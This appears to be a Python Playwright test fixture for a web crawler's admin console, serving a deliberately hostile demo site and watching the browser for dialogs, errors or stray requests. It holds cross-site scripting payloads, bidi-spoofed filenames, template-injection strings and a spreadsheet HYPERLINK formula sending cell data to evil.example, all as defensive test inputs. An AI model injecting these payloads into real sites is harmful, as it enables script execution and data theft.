"""What do the console's tests look at? A server with a crawled ledger, and browsers that listen.

The sites are as hostile as the web: titles, links, robots.txt, prices and header values that would
do something, if anybody let them.
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from html import escape
from pathlib import Path
from typing import Any
from urllib.parse import quote

from playwright.sync_api import Browser, BrowserContext, Page, sync_playwright

from tenax.adapters.browser.chromium import NOT_WANTED
from tenax.demo import DemoWeb, Reply, Site, SiteRequest, Truth
from tenax.demo.site import is_number
from tests.e2e.command import Running, Tenax, until

PASSWORD = "correct horse battery staple"
JOB = 'prices"><img src=x onerror=alert(1)>\u202egnp.exe'
"""Whoever names jobs is trusted, and may still err."""
WAIT = 60_000
"""Milliseconds: the machine may be busy."""
HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %>",
    "</title></td></table><svg/onload=alert(1)>",
    "\u202egnp.exe\u202c reversed \u2066isolated\u2069",
    "Z" + "\u0351\u036b\u0343\u036a\u0302" * 40 + "algo",
    "\x1b[31mred zero\u200bwidth\u200d joiner\ufeff",
    "A" * 3_000,
    "<a href='javascript:alert(1)' hx-get='/api/evil' hx-trigger='load'>hx</a>",
    "بيع هاتف جديد — عرض خاص",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "An ordinary title",
)
PHONE = {"width": 390, "height": 844}
DESK = {"width": 1440, "height": 900}


@dataclass
class HostileSite(Site):
    """Every page has a title that would act, and links to more."""

    name: str = "hostile"
    title: str = "A site"

    def answer(self, request: SiteRequest) -> Reply:
        match request.segments:
            case ["robots.txt"]:
                return self.robots(
                    "User-agent: *",
                    "Disallow: /private<script>alert(1)</script>",
                    "Disallow: /secret # \u202egnp",
                    "Content-Signal: ai-train=no",
                    "User-agent: otherbot",
                    "Disallow: /",
                )
            case [""]:
                return self._page(0)
            case ["page", number] if is_number(number, len(HOSTILE)):
                return self._page(int(number))
            case ["product"]:
                return self._product()
            case ["broken"]:
                return Reply(b"", status=500)
            case ["lost"]:
                said = "<p>The page you requested could not be found.</p>"
                return self.page("404 Not Found", f"<h1>404 Not Found</h1>{said}")
            case _:
                return self.missing()

    def truth(self) -> Truth:
        return Truth(front=self.url)

    def _page(self, number: int) -> Reply:
        links = [f"/page/{n}" for n in range(1, len(HOSTILE) + 1)]
        links += [
            "/product",
            "/broken",
            "/lost",
            "/gone",
            "/secret/1",
            "/private<script>alert(1)</script>",
        ]
        links += ["/x?a=<img src=x onerror=alert(1)>", "javascript:alert(1)", "http://10.0.0.8/"]
        links += ["http://elsewhere.example/", "/archive.zip", "/\u202egnp"]
        body = "".join(f'<p><a href="{escape(link)}">{escape(link)}</a></p>' for link in links)
        words = f"<p>{escape(HOSTILE[number - 1])}</p><p>{'Some words to read here. ' * 8}</p>"
        headers = (("Content-Language", "en<b>"), ("ETag", '"<script>alert(1)</script>"'))
        return self.page(HOSTILE[number - 1], words + body, headers=headers, modified="")

    def _product(self) -> Reply:
        offer = {"@type": "Offer", "price": "129.00", "priceCurrency": "EUR",
                 "availability": "https://schema.org/InStock"}  # fmt: skip
        told = {"@context": "https://schema.org", "@type": "Product", "offers": offer,
                "name": HOSTILE[1], "brand": {"@type": "Brand", "name": HOSTILE[4]},
                "sku": "<b>1</b>", "description": HOSTILE[0]}  # fmt: skip
        text = json.dumps(told).replace("<", "\\u003c")
        script = f'<script type="application/ld+json">{text}</script>'
        return self.page(HOSTILE[1], f"<h1>{escape(HOSTILE[1])}</h1>", head=script)


@dataclass
class Watched:
    """A page, and everything on it that should not have happened."""

    page: Page
    address: str
    wrong: list[str] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.page.set_default_timeout(WAIT)
        self.page.on("console", lambda said: self._said(said.type, said.text))
        self.page.on("pageerror", lambda error: self.wrong.append(f"error {error}"))
        self.page.on("dialog", lambda dialog: self.wrong.append(f"dialog {dialog.message}"))
        self.page.on("request", lambda request: self._requested(request.url))

    def _said(self, kind: str, text: str) -> None:
        if kind in ("error", "warning"):
            self.wrong.append(f"{kind} {text}")

    def _requested(self, url: str) -> None:
        path = url.removeprefix(self.address)
        self.asked.append(path)
        is_ours = re.match(r"/(api|assets)/", path) or self.page.url.startswith("about:")
        if path == url or not (is_ours or url == self.page.url or self._is_page(path)):
            self.wrong.append(f"asked {url[:200]}")

    def _is_page(self, path: str) -> bool:
        """Whether a whole document was asked for, by going there."""
        return bool(re.match(r"/[a-z]*(/|\?|$)", path)) and not path.startswith("/%")

    def go(self, path: str) -> Page:
        self.page.goto(self.address + path)
        self.page.locator("main#main:not([aria-busy])").wait_for()
        return self.page

    def settle(self) -> None:
        """Until nothing is being loaded."""
        self.page.locator(".skeleton").first.wait_for(state="detached")
        self.page.wait_for_timeout(50)

    def call(self, method: str, path: str, body: Any = None) -> Any:
        """Ask the API as a page of ours does."""
        return self.page.evaluate(
            """async ([method, path, body]) => {
                const answer = await fetch(path, { method, body: body && JSON.stringify(body),
                    headers: body ? { "Content-Type": "application/json" } : {} });
                return { status: answer.status, json: await answer.json() };
            }""",
            [method, path, body],
        )

    def log_in(self, name: str, password: str = PASSWORD) -> None:
        page = self.go("/")
        page.get_by_label("Name").fill(name)
        page.get_by_label("Password").fill(password)
        page.get_by_role("button", name="Log in").click()

    @property
    def width(self) -> int:
        """How wide it would like to be."""
        return int(self.page.evaluate("document.documentElement.scrollWidth"))


@dataclass
class ConsoleWorld:
    """A server, the sites it crawled, and a browser with the sessions of both roles."""

    tenax: Tenax
    web: DemoWeb
    browser: Browser
    serving: Running
    address: str
    opened: str = ""
    """What `--open` opened."""
    sessions: dict[str, Any] = field(default_factory=dict)

    @property
    def hostile(self) -> str:
        return self.web.sites["hostile"].url

    @contextmanager
    def context(self, role: str = "", **options: Any) -> Iterator[BrowserContext]:
        """A browser of its own; logged in as `admin` or `reader`, or not at all."""
        made = self.browser.new_context(
            storage_state=self.sessions.get(role), **{"viewport": DESK, **options}
        )
        try:
            yield made
        finally:
            made.close()

    @contextmanager
    def page(self, role: str = "", **options: Any) -> Iterator[Watched]:
        with self.context(role, **options) as context:
            yield Watched(context.new_page(), self.address)

    def restart(self) -> None:
        """End the server, and start another at the same address."""
        port = self.address.rpartition(":")[2]
        self.serving.interrupt()
        self.serving.wait()
        self.serving = serve(self.tenax, port)


def write_settings(folder: Path) -> None:
    """With code of a user's own, and a rule that finds something wrong whenever it looks."""
    (folder / "titles.py").write_text(
        "from tenax import on\n\n"
        '@on("*/page/*")\n'
        "def titles(page):\n"
        '    yield page.record("title", text=page.title, url=page.url)\n'
    )
    (folder / "tenax.toml").write_text(
        'handlers = ["titles.py"]\n\n[alerting]\nlook = 1\n\n'
        '[[alerts]]\nwhat = "disk"\nthreshold = 1\nlasting = 0\n'
    )


def flags() -> list[str]:
    """A window's own pages would take as much of a processor as ours."""
    lean = f"--disable-features={','.join(NOT_WANTED)}"
    return [lean, "--no-sandbox"] if os.getuid() == 0 else [lean]


def serve(tenax: Tenax, port: str = "0", *more: str) -> Running:
    write_settings(tenax.folder)
    running = tenax.start(
        "serve", "--port", port, *more,
        allow_private="127.0.0.1/32", pace__delay=0.01, api__anonymous=10_000, api__user=10_000,
        api__admin=10_000, api__seeds=1_000, api__logins=1_000, retry__base=0.1,
    )  # fmt: skip
    until(lambda: "Serving at " in running.err or not running.is_alive, "it serves")
    assert running.is_alive, running.err
    return running


@contextmanager
def console_world(folder: Path, chromium: str) -> Iterator[ConsoleWorld]:
    """Everything from the first start on: a one-time password, another one, a reader, two jobs."""
    from tenax.demo import serving as serving_sites

    tenax = Tenax(folder)
    opener, opened = folder / "browser", folder / "opened"
    opener.write_text(f'#!/bin/sh\necho "$1" > {opened}\n')
    opener.chmod(0o755)
    os.environ |= {"BROWSER": str(opener), "DISPLAY": ":99"}
    try:
        with serving_sites([HostileSite(), "shop"]) as web, sync_playwright() as playwright:
            running = serve(tenax, "0", "--open")
            (address,) = re.findall(r"Serving at (http://\S+)\.", running.err)
            browser = playwright.chromium.launch(executable_path=chromium, args=flags())
            world = ConsoleWorld(tenax, web, browser, running, address)
            until(opened.exists, "a browser was opened")
            world.opened = opened.read_text().strip()
            (once,) = re.findall(r"once, with the password (\S+)", running.err)
            _begin(world, once)
            yield world
            browser.close()
    finally:
        del os.environ["BROWSER"], os.environ["DISPLAY"]
        tenax.clean_up()


def _begin(world: ConsoleWorld, once: str) -> None:
    with world.page() as watched:
        watched.log_in("admin", once)
        page = watched.page
        page.get_by_label("New password").fill(PASSWORD)
        page.get_by_label("The same again").fill(PASSWORD)
        page.get_by_role("button", name="Choose it").click()
        page.get_by_role("heading", name="Nothing has been crawled yet").wait_for()
        world.sessions["admin"] = page.context.storage_state()
        reader = {"name": "reader", "role": "user", "password": PASSWORD}
        assert watched.call("POST", "/api/users", reader)["status"] in (200, 201)
        wanted: dict[str, dict[str, Any]] = {
            JOB: {"seeds": [world.hostile], "max_depth": 3},
            "shop": {"seeds": [world.web.sites["shop"].url], "max_pages": 40},
        }
        for name, body in wanted.items():
            made = watched.call("POST", "/api/jobs", {"name": name, "start": True, **body})
            assert made["status"] == 201, made
        names = [quote(name, safe="") for name in wanted]
        states = {"running"}
        while states == {"running"} or "running" in states:
            page.wait_for_timeout(300)
            states = {watched.call("GET", f"/api/jobs/{name}")["json"]["state"] for name in names}
    with world.page() as watched:
        watched.log_in("reader")
        watched.page.get_by_role("heading", name="Overview").wait_for()
        world.sessions["reader"] = watched.page.context.storage_state()
